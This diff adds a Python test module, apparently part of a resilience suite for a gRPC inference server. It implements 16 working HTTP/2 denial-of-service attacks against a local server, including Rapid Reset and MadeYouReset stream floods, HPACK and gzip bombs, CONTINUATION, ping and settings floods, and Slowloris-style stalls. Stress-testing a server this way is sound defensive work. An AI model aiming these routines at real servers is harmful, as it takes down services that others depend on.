@@ -1,0 +1,264 @@
+"""Peers that misuse HTTP/2 itself."""
+
+import asyncio
+import functools
+from collections.abc import Awaitable, Callable
+from types import TracebackType
+from typing import Self
+
+from hostile.attack import Bar, Scene, attack
+from hostile.calls import compressed
+from leadline.v1.inference_service_pb2 import GetModelRequest, ListModelsRequest
+from support import http2_frames as frames
+from support.bare_http2 import framed
+
+_GET = "/leadline.v1.InferenceService/GetModel"
+_LIST = "/leadline.v1.InferenceService/ListModels"
+_PREDICT = "/leadline.v1.InferenceService/Predict"
+
+_BATCH = 100
+_HOLD_SECONDS = 2.0
+_FRAME_BYTES = 1 << 14
+_RETRY_SECONDS = 0.01
+_INITIAL_WINDOW_SIZE = 4  # a setting of HTTP/2
+_MOST_STREAM = 1 << 30
+
+# Connections of each kind.
+_EACH = 4
+
+
+class _Peer:
+    """A connection that writes frames, and discards what it reads, or does not read."""
+
+    def __init__(self, scene: Scene, *, reads: bool = True, greeting: bytes | None = None) -> None:
+        self._port = scene.site.port
+        self._reads = reads
+        self._greeting = frames.PREFACE + frames.settings() if greeting is None else greeting
+        self.model = scene.site.model
+
+    async def __aenter__(self) -> Self:
+        self._reader, self._writer = await asyncio.open_connection("127.0.0.1", self._port)
+        self._discarding = asyncio.create_task(self._discard()) if self._reads else None
+        await self.write(self._greeting)
+        return self
+
+    async def __aexit__(
+        self,
+        kind: type[BaseException] | None,
+        error: BaseException | None,
+        traceback: TracebackType | None,
+    ) -> None:
+        if self._discarding is not None:
+            self._discarding.cancel()
+            await asyncio.gather(self._discarding, return_exceptions=True)
+        self._writer.transport.abort()
+
+    async def write(self, data: bytes) -> None:
+        """Writes, as fast as the server reads; raises ConnectionError once it hangs up."""
+        if self._discarding is not None and self._discarding.done():
+            raise ConnectionResetError("the server hung up")
+        self._writer.write(data)
+        await self._writer.drain()
+        await asyncio.sleep(0)  # else one peer's flood would be the only one
+
+    async def flood(self, make: Callable[[int], bytes], *, step: int = 2) -> None:
+        """Writes what `make` makes of the streams 1, 3, 5 and so on, in batches, without end."""
+        for first in range(1, _MOST_STREAM, step * _BATCH):
+            streams = range(first, first + step * _BATCH, step)
+            await self.write(b"".join(map(make, streams)))
+
+    async def hold(self) -> None:
+        """Says nothing more, until the server hangs up or some time has passed."""
+        if self._discarding is not None:
+            await asyncio.wait([self._discarding], timeout=_HOLD_SECONDS)
+        else:
+            await asyncio.sleep(_HOLD_SECONDS)
+
+    async def _discard(self) -> None:
+        while await self._reader.read(1 << 16):
+            pass
+
+
+async def _declared_lengths(scene: Scene) -> None:
+    """Declares 1 GiB and sends nothing of it."""
+    async with _Peer(scene) as peer:
+        for stream in range(1, 2 * _BATCH, 2):
+            await peer.write(
+                frames.headers(stream, _PREDICT) + frames.message_begin(stream, 1 << 30)
+            )
+        await peer.hold()
+
+
+async def _bombs(scene: Scene) -> None:
+    """Sends zeros that gzip makes a thousandth of."""
+    fields, bomb = [(b"grpc-encoding", b"gzip")], _bomb()
+    async with _Peer(scene) as peer:
+        for stream in range(1, 21, 2):
+            await peer.write(frames.headers(stream, _PREDICT, fields))
+            for start in range(0, len(bomb), _FRAME_BYTES):
+                await peer.write(frames.data(stream, bomb[start : start + _FRAME_BYTES]))
+        await peer.hold()
+
+
+@functools.cache
+def _bomb() -> bytes:
+    return framed(compressed(bytes(1_000 << 20)), compressed=True)
+
+
+async def _rapid_reset(scene: Scene) -> None:
+    """CVE-2023-44487: begins calls and cancels each at once."""
+    request = GetModelRequest(name=scene.site.model).SerializeToString()
+    async with _Peer(scene) as peer:
+        await peer.flood(
+            lambda stream: (
+                frames.headers(stream, _GET)
+                + frames.message(stream, request)
+                + frames.reset(stream)
+            )
+        )
+
+
+async def _made_you_reset(scene: Scene) -> None:
+    """CVE-2025-8671: errs on each stream, so that the server resets it and goes on working."""
+    request = GetModelRequest(name=scene.site.model).SerializeToString()
+    async with _Peer(scene) as peer:
+        await peer.flood(
+            lambda stream: (
+                frames.headers(stream, _GET)
+                + frames.message(stream, request)
+                + frames.window_update(stream, 0)
+            )
+        )
+
+
+async def _slow_readers(scene: Scene) -> None:
+    """CVE-2019-9517: asks for much, and reads nothing of it."""
+    request = ListModelsRequest(page_size=1_000).SerializeToString()
+    async with _Peer(scene, reads=False) as peer:
+        for stream in range(1, 2 * _BATCH, 2):
+            await peer.write(frames.headers(stream, _LIST) + frames.message(stream, request))
+        await peer.hold()
+
+
+async def _no_window(scene: Scene) -> None:
+    """CVE-2019-9511: asks for much, into windows of no bytes."""
+    request = ListModelsRequest(page_size=1_000).SerializeToString()
+    greeting = frames.PREFACE + frames.settings({_INITIAL_WINDOW_SIZE: 0})
+    async with _Peer(scene, greeting=greeting) as peer:
+        for stream in range(1, 2 * _BATCH, 2):
+            await peer.write(frames.headers(stream, _LIST) + frames.message(stream, request))
+        await peer.hold()
+
+
+async def _header_floods(scene: Scene) -> None:
+    """Sends 16 KiB of metadata with each call."""
+    fields = [(b"x-%d" % number, b"v" * 120) for number in range(128)]
+    async with _Peer(scene) as peer:
+        await peer.flood(lambda stream: frames.headers(stream, _GET, fields))
+
+
+async def _hpack_bombs(scene: Scene) -> None:
+    """CVE-2016-6581: refers to a long field, a byte for each time."""
+    block = b"\x40\x01x\x7e" + b"v" * 126 + b"\xbe" * 16_000  # stores the field, refers to it
+    async with _Peer(scene) as peer:
+        await peer.flood(
+            lambda stream: frames.headers(stream, _GET, ends=False) + frames.continuation(stream, block, ends=True)
+        )
+
+
+async def _continuations(scene: Scene) -> None:
+    """CVE-2024-27316 and others: headers that never end."""
+    block = frames.field_block([(b"x", b"v" * 120)] * 100)
+    async with _Peer(scene) as peer:
+        await peer.write(frames.headers(1, _GET, ends=False))
+        await peer.flood(lambda _: frames.continuation(1, block))
+
+
+async def _settings(scene: Scene) -> None:
+    """CVE-2019-9515: settings, each of which must be acknowledged."""
+    async with _Peer(scene, reads=False) as peer:
+        await peer.flood(lambda _: frames.settings({_INITIAL_WINDOW_SIZE: 1}))
+
+
+async def _pings(scene: Scene) -> None:
+    """CVE-2019-9512: pings, each of which must be answered."""
+    async with _Peer(scene, reads=False) as peer:
+        await peer.flood(lambda _: frames.ping())
+
+
+async def _priorities(scene: Scene) -> None:
+    """CVE-2019-9513: priorities of streams that do not exist."""
+    async with _Peer(scene) as peer:
+        await peer.flood(frames.priority)
+
+
+async def _window_updates(scene: Scene) -> None:
+    """Widens the connection's window a byte at a time."""
+    async with _Peer(scene) as peer:
+        await peer.flood(lambda _: frames.window_update(0, 1))
+
+
+async def _empty_data(scene: Scene) -> None:
+    """CVE-2019-9518: frames of data without data."""
+    async with _Peer(scene) as peer:
+        await peer.write(frames.headers(1, _GET))
+        await peer.flood(lambda _: frames.data(1, b""))
+
+
+async def _half_prefaces(scene: Scene) -> None:
+    """Connects, and stops within the preface."""
+    async with _Peer(scene, greeting=frames.PREFACE[:10]) as peer:
+        await peer.hold()
+
+
+async def _slow_writers(scene: Scene) -> None:
+    """Slowloris: a byte of a message at a time."""
+    async with _Peer(scene) as peer:
+        await peer.write(frames.headers(1, _GET) + frames.message_begin(1, 1_000))
+        for _ in range(20):
+            await peer.write(frames.data(1, b"x"))
+            await asyncio.sleep(0.1)
+
+
+_Kind = Callable[[Scene], Awaitable[None]]
+
+_KINDS: tuple[_Kind, ...] = (
+    _declared_lengths,
+    _bombs,
+    _rapid_reset,
+    _made_you_reset,
+    _slow_readers,
+    _no_window,
+    _header_floods,
+    _hpack_bombs,
+    _continuations,
+    _settings,
+    _pings,
+    _priorities,
+    _window_updates,
+    _empty_data,
+    _half_prefaces,
+    _slow_writers,
+)
+
+
+@attack(source="CVE-2023-44487, CVE-2025-8671 and 14 more: the docstrings in peers.py", bar=Bar(memory_mib=64))
+async def hostile_peers(scene: Scene) -> None:
+    """Misuses HTTP/2 in 16 ways from 64 connections at once.
+
+    Resets, floods of each kind of frame, bombs, readers and writers that stall: each makes the
+    server work or keep something for little of the attacker's.
+    """
+
+    async def misuse(kind: _Kind) -> None:
+        scene.tally[kind.__name__.strip("_").replace("_", "-")] += 1
+        try:
+            await kind(scene)
+        except OSError:  # the server hung up, as it should
+            await asyncio.sleep(_RETRY_SECONDS)
+
+    _bomb()  # made once, before
+    await scene.begin()
+    async with asyncio.TaskGroup() as group:
+        for kind in _KINDS:
+            group.create_task(scene.repeat(_EACH, functools.partial(misuse, kind)))
